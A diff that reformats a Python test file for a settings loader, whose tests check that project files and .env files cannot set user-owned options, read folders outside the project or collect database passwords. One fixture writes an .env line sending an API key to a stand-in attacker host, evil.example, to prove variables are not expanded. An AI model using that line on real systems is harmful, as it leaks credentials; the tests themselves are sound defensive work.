@@ -15,11 +15,16 @@ from assay.domain.errors import SettingsError
 def test_an_option_goes_over_a_variable_and_a_variable_over_the_file(tmp_path: Path) -> None:
     (tmp_path / "assay.yaml").write_text("concurrency: 2\njudge: vllm/a\nreviewer: ann\n", "utf-8")
     found = read_settings(
-        tmp_path, environment={"ASSAY_CONCURRENCY": "3", "ASSAY_JUDGE": "vllm/b"}, options={"concurrency": 4, "judge": None}
+        tmp_path,
+        environment={"ASSAY_CONCURRENCY": "3", "ASSAY_JUDGE": "vllm/b"},
+        options={"concurrency": 4, "judge": None},
     )
     assert (found.values["concurrency"], found.origins["concurrency"]) == (4, "option")
     assert (found.values["judge"], found.origins["judge"]) == ("vllm/b", "ASSAY_JUDGE")
-    assert (found.values["reviewer"], found.origins["reviewer"]) == ("ann", str(tmp_path / "assay.yaml"))
+    assert (found.values["reviewer"], found.origins["reviewer"]) == (
+        "ann",
+        str(tmp_path / "assay.yaml"),
+    )
     assert (found.values["local_only"], found.origins["local_only"]) == (False, "default")
 
 
@@ -34,7 +39,10 @@ def test_the_file_is_found_in_a_folder_above(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("named", ["other/mine.db", "sqlite:///other/mine.db"])
 def test_a_plain_path_names_a_store_in_file_and_variable(tmp_path: Path, named: str) -> None:
-    assert read_settings(tmp_path, environment={"ASSAY_STORE": named}).store_url == "sqlite:///other/mine.db"
+    assert (
+        read_settings(tmp_path, environment={"ASSAY_STORE": named}).store_url
+        == "sqlite:///other/mine.db"
+    )
     (tmp_path / "assay.yaml").write_text(f"store: {named}\n", "utf-8")
     assert read_settings(tmp_path, environment={}).store_url == "sqlite:///other/mine.db"
 
@@ -84,7 +92,9 @@ def test_a_file_that_others_can_write_is_refused_by_name(tmp_path: Path) -> None
         ("sandbox", "none"),
     ],
 )
-def test_a_project_file_cannot_set_what_is_the_users_own(tmp_path: Path, key: str, value: str) -> None:
+def test_a_project_file_cannot_set_what_is_the_users_own(
+    tmp_path: Path, key: str, value: str
+) -> None:
     (tmp_path / "assay.yaml").write_text(f"{key}: {value}\n", "utf-8")
     with pytest.raises(SettingsError, match=f"assay.yaml, {key}"):
         read_settings(tmp_path, environment={})
@@ -95,7 +105,9 @@ def test_a_project_file_cannot_set_what_is_the_users_own(tmp_path: Path, key: st
     assert read_settings(tmp_path, environment={f"ASSAY_{key.upper()}": value}).values[key]
 
 
-@pytest.mark.parametrize("name", ["ASSAY_TOKEN", "ASSAY_HOSTS", "ASSAY_TRUSTED_FOLDERS", "ASSAY_DEBUG"])
+@pytest.mark.parametrize(
+    "name", ["ASSAY_TOKEN", "ASSAY_HOSTS", "ASSAY_TRUSTED_FOLDERS", "ASSAY_DEBUG"]
+)
 def test_dotenv_cannot_set_variables_that_open_the_server(tmp_path: Path, name: str) -> None:
     (tmp_path / ".env").write_text(f"{name}=known-to-the-author\n", "utf-8")
     with pytest.raises(SettingsError, match=f".env, {name}"):
@@ -105,7 +117,15 @@ def test_dotenv_cannot_set_variables_that_open_the_server(tmp_path: Path, name: 
 
 def test_every_setting_is_the_users_own_unless_it_is_listed_for_projects() -> None:
     allowed = {setting.key for setting in SETTINGS if setting.project}
-    sends_or_spends = {"webhook", "webhook_secret", "server", "server_token", "keys", "allow_http_keys", "fetch.allow"}
+    sends_or_spends = {
+        "webhook",
+        "webhook_secret",
+        "server",
+        "server_token",
+        "keys",
+        "allow_http_keys",
+        "fetch.allow",
+    }
     assert not allowed & (sends_or_spends | {"chromium", "sandbox"})
 
 
@@ -156,11 +176,21 @@ def test_a_project_file_lowers_the_users_budget_and_never_raises_it(tmp_path: Pa
     project.mkdir()
     for written, held in ((1000, 5), (2, 2)):
         (project / "assay.yaml").write_text(f"budget: {written}\n", "utf-8")
-        assert read_settings(project, environment={"HOME": str(tmp_path / "home")}).values["budget"] == held
+        assert (
+            read_settings(project, environment={"HOME": str(tmp_path / "home")}).values["budget"]
+            == held
+        )
     (project / "assay.yaml").unlink()
     (project / ".env").write_text("ASSAY_BUDGET=1000\n", "utf-8")
-    assert read_settings(project, environment={"HOME": str(tmp_path / "home")}).values["budget"] == 5
-    assert read_settings(project, environment={"HOME": str(tmp_path / "home"), "ASSAY_BUDGET": "9"}).values["budget"] == 9
+    assert (
+        read_settings(project, environment={"HOME": str(tmp_path / "home")}).values["budget"] == 5
+    )
+    assert (
+        read_settings(
+            project, environment={"HOME": str(tmp_path / "home"), "ASSAY_BUDGET": "9"}
+        ).values["budget"]
+        == 9
+    )
 
 
 @pytest.mark.parametrize("named", ["/", "..", "../..", "link", ".git", "a\\0b"])
@@ -172,16 +202,23 @@ def test_a_project_file_opens_no_folder_outside_the_project(tmp_path: Path, name
     (project / "link").symlink_to(tmp_path / "home" / ".ssh")
     (project / "assay.yaml").write_text("read_from: [.prompts, docs/new]\n", "utf-8")
     assert len(read_settings(project, environment={}).read_from) == 3
-    for file, text in (("assay.yaml", f'read_from: ["{named}"]\n'), (".env", f"ASSAY_READ_FROM='[\"{named}\"]'\n")):
+    for file, text in (
+        ("assay.yaml", f'read_from: ["{named}"]\n'),
+        (".env", f"ASSAY_READ_FROM='[\"{named}\"]'\n"),
+    ):
         (project / "assay.yaml").unlink(missing_ok=True)
         (project / file).write_text(text, "utf-8")
         with pytest.raises(SettingsError, match="outside the project"):
             read_settings(project, environment={})
         assert read_settings(project, environment={}, options={"read_from": ["/data"]})
-        assert read_settings(project, environment={"ASSAY_READ_FROM": "[/data]"}).values["read_from"] == ["/data"]
+        assert read_settings(project, environment={"ASSAY_READ_FROM": "[/data]"}).values[
+            "read_from"
+        ] == ["/data"]
 
 
-@pytest.mark.parametrize("address", ["postgresql://u@db/x", "postgres://db", "postgresql:///x?host=db"])
+@pytest.mark.parametrize(
+    "address", ["postgresql://u@db/x", "postgres://db", "postgresql:///x?host=db"]
+)
 def test_a_project_file_collects_no_password_of_postgresql(tmp_path: Path, address: str) -> None:
     home, project = tmp_path / "home", tmp_path / "home" / "project"
     project.mkdir(parents=True)
@@ -192,7 +229,12 @@ def test_a_project_file_collects_no_password_of_postgresql(tmp_path: Path, addre
     (home / ".pgpass").touch()
     with pytest.raises(SettingsError, match="pgpass"):
         read_settings(project, environment={"HOME": str(home)})
-    assert read_settings(project, environment={"HOME": str(home)}, options={"store": "s.db"}).values["store"] == "s.db"
+    assert (
+        read_settings(project, environment={"HOME": str(home)}, options={"store": "s.db"}).values[
+            "store"
+        ]
+        == "s.db"
+    )
     (project / "assay.yaml").write_text("store: postgresql://u:p@db/x\n", "utf-8")
     assert "db" in read_settings(project, environment={"HOME": str(home)}).store_url
 
@@ -200,7 +242,9 @@ def test_a_project_file_collects_no_password_of_postgresql(tmp_path: Path, addre
 def test_the_users_own_file_lies_below_the_project(tmp_path: Path) -> None:
     own = tmp_path / "home" / ".config" / "assay" / "assay.yaml"
     own.parent.mkdir(parents=True)
-    own.write_text("chromium: /opt/chromium\nreviewer: ann\nlocal_only: true\nconcurrency: 2\n", "utf-8")
+    own.write_text(
+        "chromium: /opt/chromium\nreviewer: ann\nlocal_only: true\nconcurrency: 2\n", "utf-8"
+    )
     project = tmp_path / "project"
     project.mkdir()
     (project / "assay.yaml").write_text("reviewer: bob\nlocal_only: false\n", "utf-8")
@@ -220,7 +264,9 @@ def test_a_setting_without_a_value_keeps_its_default(tmp_path: Path) -> None:
 
 
 def test_dotenv_does_not_insert_variables_of_the_environment(tmp_path: Path) -> None:
-    (tmp_path / ".env").write_text("OPENAI_BASE_URL=http://evil.example/${OPENAI_API_KEY}\n", "utf-8")
+    (tmp_path / ".env").write_text(
+        "OPENAI_BASE_URL=http://evil.example/${OPENAI_API_KEY}\n", "utf-8"
+    )
     settings = read_settings(tmp_path, environment={"OPENAI_API_KEY": "secret"})
     assert settings.environment["OPENAI_BASE_URL"] == "http://evil.example/${OPENAI_API_KEY}"
     assert settings.project_variables == {"OPENAI_BASE_URL"}
@@ -234,7 +280,9 @@ def test_dotenv_does_not_insert_variables_of_the_environment(tmp_path: Path) -> 
         ("{https://api.example.com: sk-secret}", "does not name a variable"),
     ],
 )
-def test_a_wrong_binding_of_a_key_is_named_and_not_repeated(tmp_path: Path, settings: str, said: str) -> None:
+def test_a_wrong_binding_of_a_key_is_named_and_not_repeated(
+    tmp_path: Path, settings: str, said: str
+) -> None:
     read = read_settings(tmp_path, environment={"ASSAY_KEYS": settings})
     with pytest.raises(SettingsError, match=said) as refusal:
         address_rules(read, web=False)
@@ -276,9 +324,18 @@ def test_the_schema_names_every_setting() -> None:
 def test_the_schema_of_settings_has_the_grammar_of_rubrics() -> None:
     schema = settings_schema()
     problems = [
-        error.message for error in jsonschema.Draft202012Validator(schema).iter_errors({"rubric": {"criteria": ["a"], "x": 1}})
+        error.message
+        for error in jsonschema.Draft202012Validator(schema).iter_errors(
+            {"rubric": {"criteria": ["a"], "x": 1}}
+        )
     ]
     assert len(problems) == 1
-    described = {"criteria": ["rigor"], "scores": {"Yes": 1, "No": 0}, "structure": {"model": "openai/small"}}
-    jsonschema.Draft202012Validator(schema).validate({"rubric": described, "judge": {"model": "openai/o1", "prompt": "Grade."}})
+    described = {
+        "criteria": ["rigor"],
+        "scores": {"Yes": 1, "No": 0},
+        "structure": {"model": "openai/small"},
+    }
+    jsonschema.Draft202012Validator(schema).validate(
+        {"rubric": described, "judge": {"model": "openai/o1", "prompt": "Grade."}}
+    )
     jsonschema.Draft202012Validator(schema).validate({"rubric": "rubric.yaml"})
